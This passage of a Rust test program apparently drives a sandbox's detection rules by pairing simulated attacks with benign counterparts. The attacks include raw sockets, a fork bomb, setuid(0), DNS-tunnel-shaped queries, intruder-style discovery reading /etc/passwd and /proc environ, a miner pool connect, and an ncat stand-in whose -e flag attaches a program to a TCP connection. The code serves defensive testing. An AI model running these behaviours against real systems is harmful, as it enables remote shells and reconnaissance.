        .unwrap_or_else(|e| fail(&format!("sleep: {e}")));
    let pid = child.id();
    let _ = step(
        "read /proc/PID/status",
        read_file(&format!("/proc/{pid}/status")),
    );
    let _ = step(
        "kill(sleep, SIGTERM)",
        sys(unsafe { libc::kill(pid as i32, libc::SIGTERM) } as i64),
    );
    let _ = child.wait();
}

/// Sandbox raw or packet socket.
fn raw_socket() {
    for (what, d, t, p) in [
        (
            "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)",
            libc::AF_INET,
            libc::SOCK_RAW,
            libc::IPPROTO_ICMP,
        ),
        (
            "socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)",
            libc::AF_INET6,
            libc::SOCK_RAW,
            libc::IPPROTO_ICMPV6,
        ),
        (
            "socket(AF_PACKET, SOCK_RAW, ETH_P_ALL)",
            libc::AF_PACKET,
            libc::SOCK_RAW,
            i32::from((libc::ETH_P_ALL as u16).to_be()),
        ),
    ] {
        if let Ok(fd) = step(what, socket(d, t, p)) {
            close(fd);
        }
    }
}

/// Benign: the sockets everyday programs make: TCP, UDP, unix, and the netlink socket glibc's
/// getaddrinfo opens (SOCK_RAW, but not IP).
fn ordinary_sockets() {
    for (what, d, t, p) in [
        (
            "socket(AF_INET, SOCK_STREAM)",
            libc::AF_INET,
            libc::SOCK_STREAM,
            0,
        ),
        (
            "socket(AF_INET6, SOCK_DGRAM)",
            libc::AF_INET6,
            libc::SOCK_DGRAM,
            0,
        ),
        (
            "socket(AF_UNIX, SOCK_STREAM)",
            libc::AF_UNIX,
            libc::SOCK_STREAM,
            0,
        ),
        (
            "socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)",
            libc::AF_NETLINK,
            libc::SOCK_RAW,
            libc::NETLINK_ROUTE,
        ),
    ] {
        if let Ok(fd) = step(what, socket(d, t, p)) {
            close(fd);
        }
    }
    run_ok(
        "python3 getaddrinfo",
        Command::new("/usr/bin/python3").args([
            "-c",
            "import socket;print(socket.getaddrinfo('localhost',80,proto=socket.IPPROTO_TCP))",
        ]),
    );
}

/// Sandbox listening socket: a bind shell's listener on every address.
fn listen_any() {
    let l = TcpListener::bind("0.0.0.0:8080").unwrap_or_else(|e| fail(&format!("bind: {e}")));
    println!(
        "{{\"step\": \"listen 0.0.0.0:8080\", \"ok\": true, \"errno\": null, \"detail\": {}}}",
        json_str(&format!("{:?}", l.local_addr()))
    );
}

/// Benign: a test server on the loopback, with a client.
fn listen_loopback() {
    let l = TcpListener::bind("127.0.0.1:8080").unwrap_or_else(|e| fail(&format!("bind: {e}")));
    let _ = step("connect 127.0.0.1:8080", tcp_connect([127, 0, 0, 1], 8080));
    let _ = l.accept();
}

// ------------------------------------------------------------------------------------------
// Privilege escalation (run as a non-root user: the test's policy says `user: 1000`)

/// `setuid-root WAIT_S`: setuid(0), then WAIT_S seconds of sleep. Run by a non-root user, the
/// attack (a kill rule: the job waits to be killed); run by the sandbox's root, the benign
/// counterpart (a root daemon re-asserting its ids).
fn setuid_root(wait: Duration) {
    let _ = step("setuid(0)", sys(unsafe { libc::setuid(0) } as i64));
    std::thread::sleep(wait);
}

/// Benign: a process dropping to (or re-asserting) its own ids, as daemons do.
fn setuid_self() {
    // SAFETY: plain id calls.
    let uid = unsafe { libc::getuid() };
    let _ = step("setuid(own uid)", sys(unsafe { libc::setuid(uid) } as i64));
    let _ = step(
        "setresuid(-1, own uid, -1)",
        sys(unsafe { libc::setresuid(u32::MAX, uid, u32::MAX) } as i64),
    );
}

/// Sandbox privilege tool run by non-root: `su` (and `sudo` where installed). Run by the
/// sandbox's root, the benign counterpart (agents prefix commands with sudo out of habit).
fn privilege_tool() {
    let mut any = false;
    for tool in ["/usr/bin/su", "/usr/bin/sudo"] {
        if Path::new(tool).exists() {
            any = true;
            let _ = run(
                &format!("{tool} -c id root"),
                Command::new(tool)
                    .args(["-c", "id", "root"])
                    .stdout(Stdio::null())
                    .stderr(Stdio::null()),
                Duration::from_secs(10),
            );
        }
    }
    if !any {
        fail("neither su nor sudo is installed");
    }
}

/// Benign: what a non-root job asks about itself.
fn identity() {
    run_ok("id", &mut Command::new("/usr/bin/id"));
    run_ok("whoami", &mut Command::new("/usr/bin/whoami"));
}

// ------------------------------------------------------------------------------------------
// Volumes and rates (windowed rules)

/// `connect-burst N ADDR PORT`: N TCP connects, as fast as possible. To a loopback address,
/// the job first starts the server they reach (a test suite hammering a local dev server).
fn connect_burst(n: usize, addr: [u8; 4], port: u16) {
    let server = (addr[0] == 127).then(|| {
        let l = TcpListener::bind((ip(addr).as_str(), port))
            .unwrap_or_else(|e| fail(&format!("bind {}:{port}: {e}", ip(addr))));
        std::thread::spawn(move || {
            for _ in 0..n {
                if l.accept().is_err() {
                    break;
                }
            }
        })
    });
    let mut ok = 0;
    let mut last_err = None;
    for _ in 0..n {
        match tcp_connect(addr, port) {
            Ok(_) => ok += 1,
            Err(e) => last_err = Some(e),
        }
    }
    println!(
        "{{\"step\": \"{n} connects to {}:{port}\", \"ok\": true, \"errno\": {}, \"detail\": \"{ok} connected\"}}",
        ip(addr),
        last_err.map_or("null".into(), |e| e.to_string())
    );
    if let Some(server) = server {
        let _ = server.join();
    }
}

/// `fork-bomb N`: N fork attempts as fast as possible, every child staying alive (blocked in
/// pause), so the sandbox's pids limit is reached and the attempts past it fail with EAGAIN, as
/// a fork bomb's do; then every child is killed and reaped.
fn fork_bomb(n: usize) {
    let mut children = Vec::new();
    let mut refused = 0;
    let mut other_errno = None;
    for _ in 0..n {
        // SAFETY: fork in this single-threaded program; the child only waits for its signal.
        let pid = unsafe { libc::fork() };
        if pid == 0 {
            loop {
                unsafe { libc::pause() };
            }
        }
        if pid > 0 {
            children.push(pid);
        } else if errno() == libc::EAGAIN {
            refused += 1;
        } else {
            other_errno = Some(errno());
        }
    }
    for &pid in &children {
        // SAFETY: killing and reaping this process's own children.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
    for &pid in &children {
        unsafe { libc::waitpid(pid, std::ptr::null_mut(), 0) };
    }
    println!(
        "{{\"step\": \"fork {n}\", \"ok\": true, \"errno\": {}, \"detail\": \"{} forked, {refused} refused with EAGAIN\"}}",
        other_errno.map_or("null".into(), |e| e.to_string()),
        children.len()
    );
    if refused == 0 {
        fail("no fork was refused: the pids limit was not reached");
    }
}

/// `build N`: a parallel C build (`make -j2`) of N small source files: the burst of process
/// creations a legitimate job makes.
fn build(n: usize) {
    let dir = "/workspace/proj";
    if step_io("mkdir proj", fs::create_dir_all(dir)).is_err() {
        fail("cannot make the project directory");
    }
    for i in 0..n {
        let src = format!("int f{i}(int x) {{ return x * {i}; }}\n");
        if fs::write(format!("{dir}/f{i}.c"), src).is_err() {
            fail("cannot write a source file");
        }
    }
    let _ = step_io(
        "write main.c",
        fs::write(format!("{dir}/main.c"), "int main(void) { return 0; }\n"),
    );
    let makefile = "SRCS := $(wildcard *.c)\nOBJS := $(SRCS:.c=.o)\napp: $(OBJS)\n\tcc -o $@ $^\n\
                    %.o: %.c\n\tcc -O0 -c -o $@ $<\n";
    let _ = step_io(
        "write Makefile",
        fs::write(format!("{dir}/Makefile"), makefile),
    );
    run_ok(
        "make -j2",
        Command::new("/usr/bin/make")
            .args(["-s", "-j2", "app"])
            .current_dir(dir),
    );
    run_ok("run the build", &mut Command::new(format!("{dir}/app")));
}

/// A small xorshift generator: random-looking labels without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// A DNS query (id, recursion desired, one question of `qtype` IN) for `name`.
fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut q = Vec::with_capacity(300);
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.push(0);
    q.extend_from_slice(&qtype.to_be_bytes());
    q.extend_from_slice(&1u16.to_be_bytes());
    q
}

/// `dns NAMES...` / `dns-tunnel N`: DNS queries sent to 127.0.0.1:53 (the sandbox's own
/// loopback: nothing answers, which UDP does not care about).
fn send_dns(names: &[String], qtype: u16) {
    let fd = match step(
        "socket(AF_INET, SOCK_DGRAM)",
        socket(libc::AF_INET, libc::SOCK_DGRAM, 0),
    ) {
        Ok(fd) => fd,
        Err(_) => fail("no UDP socket"),
    };
    let sa = sockaddr_v4([127, 0, 0, 1], 53);
    let mut sent = 0;
    let mut bytes = 0;
    for (i, name) in names.iter().enumerate() {
        let q = dns_query(i as u16, name, qtype);
        // SAFETY: a live buffer and sockaddr_in with their sizes.
        let n = unsafe {
            libc::sendto(
                fd as i32,
                q.as_ptr().cast(),
                q.len(),
                0,
                (&sa as *const libc::sockaddr_in).cast(),
                size_of::<libc::sockaddr_in>() as u32,
            )
        };
        if n > 0 {
            sent += 1;
            bytes += n;
        }
    }
    close(fd);
    println!(
        "{{\"step\": \"{} DNS queries to 127.0.0.1:53\", \"ok\": true, \"errno\": null, \"detail\": \"{sent} sent, {bytes} bytes\"}}",
        names.len()
    );
}

/// `dns-tunnel N`: N TXT queries whose names carry 3 labels of 60 random base32 characters
/// each (about 180 bytes of encoded data per query), the shape of iodine/dnscat traffic.
fn dns_tunnel(n: usize) {
    const B32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15 ^ u64::from(std::process::id()));
    let names: Vec<String> = (0..n)
        .map(|_| {
            let mut labels: Vec<String> = (0..3)
                .map(|_| {
                    (0..60)
                        .map(|_| B32[(rng.next() % 32) as usize] as char)
                        .collect()
                })
                .collect();
            labels.push("t.example.com".into());
            labels.join(".")
        })
        .collect();
    send_dns(&names, 16);
}

/// Benign: a handful of ordinary lookups (a package manager resolving its mirrors).
fn dns_normal() {
    let names: Vec<String> = [
        "pypi.org",
        "files.pythonhosted.org",
        "github.com",
        "api.github.com",
        "registry.npmjs.org",
        "deb.debian.org",
        "crates.io",
        "static.crates.io",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    send_dns(&names, 1);
}

/// `discovery`: what an intruder runs first: every process's command line and status, the
/// account, network and OS files, and the usual identity and network commands.
fn discovery() {
    let mut read = 0;
    if let Ok(d) = fs::read_dir("/proc") {
        for e in d.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.bytes().all(|b| b.is_ascii_digit()) {
                for f in ["cmdline", "status", "environ"] {
                    if read_file(&format!("/proc/{name}/{f}")).is_ok() {
                        read += 1;
                    }
                }
            }
        }
    }
    for path in [
        "/etc/passwd",
        "/etc/group",
        "/etc/hosts",
        "/etc/hostname",
        "/etc/resolv.conf",
        "/etc/os-release",
        "/etc/issue",
        "/etc/fstab",
        "/etc/crontab",
        "/etc/ssh/sshd_config",
        "/proc/net/tcp",
        "/proc/net/tcp6",
        "/proc/net/udp",
        "/proc/net/route",
        "/proc/net/arp",
        "/proc/net/dev",
        "/proc/cpuinfo",
        "/proc/version",
        "/proc/mounts",
        "/proc/self/cgroup",
    ] {
        if step(&format!("read {path}"), read_file(path)).is_ok() {
            read += 1;
        }
    }
    for cmd in [
        &["/usr/bin/uname", "-a"][..],
        &["/usr/bin/id"],
        &["/usr/bin/whoami"],
        &["/usr/bin/hostname"],
        &["/usr/bin/ps", "aux"],
        &["/usr/sbin/ip", "addr"],
        &["/usr/bin/ss", "-tunap"],
        &["/usr/bin/df", "-h"],
        &["/usr/bin/mount"],
        &["/usr/bin/env"],
        &["/usr/bin/getent", "passwd"],
        &["/usr/bin/lscpu"],
        &["/usr/bin/w"],
    ] {
        if Path::new(cmd[0]).exists() {
            let _ = run(
                &cmd.join(" "),
                Command::new(cmd[0])
                    .args(&cmd[1..])
                    .stdout(Stdio::null())
                    .stderr(Stdio::null()),
                Duration::from_secs(10),
            );
        }
    }
    println!(
        "{{\"step\": \"discovery\", \"ok\": true, \"errno\": null, \"detail\": \"{read} files read\"}}"
    );
}

/// Benign: a job looking at its own environment once (a build script checking the platform).
fn look_around_once() {
    let _ = step("read /etc/os-release", read_file("/etc/os-release"));
    let _ = step("read /proc/cpuinfo", read_file("/proc/cpuinfo"));
    run_ok("uname -m", Command::new("/usr/bin/uname").arg("-m"));
    run_ok("nproc", &mut Command::new("/usr/bin/nproc"));
}

/// `memory MIB HOLD_MS`: allocates and touches MIB MiB, holds it HOLD_MS, frees it.
fn memory(mib: usize, hold: Duration) {
    let mut blocks: Vec<Vec<u8>> = Vec::new();
    for _ in 0..mib {
        // Non-zero bytes: every page really touched.
        blocks.push(vec![0x5a; 1 << 20]);
    }
    println!(
        "{{\"step\": \"allocate {mib} MiB\", \"ok\": true, \"errno\": null, \"detail\": \"holding {} ms\"}}",
        hold.as_millis()
    );
    let _ = io::stdout().flush();
    std::thread::sleep(hold);
    drop(blocks);
}

// ------------------------------------------------------------------------------------------
// Personalities

/// `ncat [-e PROG] HOST PORT`: like ncat, forks PROG on the connection with -e; without, copies
/// what the server sends to stdout.
fn play_ncat(args: &[String]) {
    let (prog, rest) = match args {
        [flag, prog, rest @ ..] if flag == "-e" => (Some(prog.clone()), rest),
        rest => (None, rest),
    };
    let [host, port] = rest else {
        fail("usage: ncat [-e PROG] HOST PORT")
    };
    let mut conn = TcpStream::connect((host.as_str(), port.parse::<u16>().unwrap_or(0)))
        .unwrap_or_else(|e| fail(&format!("ncat: connect: {e}")));
    match prog {
        Some(prog) => {
            use std::os::fd::{AsFd as _, OwnedFd};
            let fd = |c: &TcpStream| -> OwnedFd { c.as_fd().try_clone_to_owned().unwrap() };
            let status = Command::new(&prog)
                .stdin(Stdio::from(fd(&conn)))
                .stdout(Stdio::from(fd(&conn)))
                .stderr(Stdio::from(fd(&conn)))
                .status()
                .unwrap_or_else(|e| fail(&format!("ncat: exec {prog}: {e}")));
            std::process::exit(status.code().unwrap_or(1));
        }
        None => {
            let mut out = String::new();
            let _ = conn.read_to_string(&mut out);
            print!("{out}");
        }
    }
}

/// `xmrig -o stratum+tcp://HOST:PORT ...`: connects to the pool and gives up.
fn play_miner(args: &[String]) {
    let url = args
        .iter()
        .position(|a| a == "-o")
        .and_then(|i| args.get(i + 1))
        .unwrap_or_else(|| fail("usage: xmrig -o stratum+tcp://HOST:PORT"));
    let hostport = url.rsplit("://").next().unwrap_or(url);
    let (host, port) = hostport
        .rsplit_once(':')
        .unwrap_or_else(|| fail("pool URL without a port"));
    let _ = step(
        &format!("connect to pool {hostport}"),
        tcp_connect(parse_ip(host), port.parse().unwrap_or(3333)),
    );
}

fn num<T: std::str::FromStr>(args: &[String], i: usize, what: &str) -> T {
    args.get(i)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| fail(&format!("missing or bad {what}")))
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let me = Path::new(&args[0])
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    match me.as_str() {
        "ncat" => return play_ncat(&args[1..]),
        "xmrig" => return play_miner(&args[1..]),
        _ => {}
    }
    let mode = args.get(1).map_or("", String::as_str);
    match mode {
        "noop" => {}
        "read-shadow" => read_shadow(),
        "read-passwd" => read_passwd(),
        "read-private-key" => read_private_key(),
        "read-public-keys" => read_public_keys(),
        "write-system-dir" => write_system_dir(),
        "write-refused-then-workspace" => write_refused_then_workspace(),
        "shell-startup" => shell_startup(),
        "shell-startup-read" => shell_startup_read(),
        "history-tamper" => history_tamper(),
        "history-append" => history_append(),
        "setid-bit" => setid_bit(),
        "chmod-exec" => chmod_exec(),
        "exec-dev-shm" => exec_dev_shm(),
        "exec-tmp" => exec_tmp(),
        "exec-benign" => exec_benign(),
        "shell-connect-out" => shell_connect_out(),
        "shell-connect-loopback" => shell_connect_loopback(),
        "ncat-exec" => ncat_exec(),
        "ncat-client" => ncat_client(),
        "reverse-shell-oneliner" => reverse_shell_oneliner(),
        "python-socket-client" => python_socket_client(),
        "miner" => miner(),
        "pool-connect" => pool_connect(),
        "cpu-and-local-3333" => cpu_and_local_3333(),
        "kernel-module" => kernel_module(),
        "kernel-info" => kernel_info(),
        "kernel-hook-write" => kernel_hook_write(),
        "kernel-hook-read" => kernel_hook_read(),
        "kernel-memory" => kernel_memory(&args[2..]),
        "memory-info" => memory_info(),
        "namespace" => namespace(),
        "namespace-read" => namespace_read(),
        "kernel-interface" => kernel_interface(),
        "kernel-interface-read" => kernel_interface_read(),
        "ptrace" => ptrace(),
        "process-inspect" => process_inspect(),
        "raw-socket" => raw_socket(),
        "ordinary-sockets" => ordinary_sockets(),
        "listen-any" => listen_any(),
        "listen-loopback" => listen_loopback(),
        "setuid-root" => setuid_root(Duration::from_secs(num(&args, 2, "seconds"))),
        "setuid-self" => setuid_self(),
        "privilege-tool" => privilege_tool(),
        "identity" => identity(),
        "connect-burst" => connect_burst(
            num(&args, 2, "count"),
            parse_ip(args.get(3).map_or("", String::as_str)),
            num(&args, 4, "port"),
        ),
        "fork-bomb" => fork_bomb(num(&args, 2, "count")),
        "build" => build(num(&args, 2, "count")),
        "dns-tunnel" => dns_tunnel(num(&args, 2, "count")),
        "dns-normal" => dns_normal(),
        "discovery" => discovery(),
        "look-around-once" => look_around_once(),
        "memory" => memory(
            num(&args, 2, "MiB"),
            Duration::from_millis(num(&args, 3, "hold ms")),
        ),
        other => {
            eprintln!("sw-rule-job: unknown mode {other:?}");
            std::process::exit(2);
        }
    }
}
